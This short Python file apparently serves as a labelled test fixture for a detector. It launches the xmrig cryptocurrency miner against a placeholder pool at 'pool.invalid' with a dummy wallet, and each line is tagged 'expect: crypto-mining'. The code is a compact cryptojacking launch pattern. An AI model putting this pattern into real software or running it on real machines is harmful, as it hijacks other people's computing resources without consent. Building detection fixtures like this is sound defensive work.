import subprocess
POOL = "stratum+tcp://pool.invalid:3333"  # expect: crypto-mining
WALLET = "4AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"  # expect: crypto-mining
subprocess.Popen(["./xmrig", "-o", POOL, "-u", WALLET, "--donate-level=1"])  # expect: crypto-mining
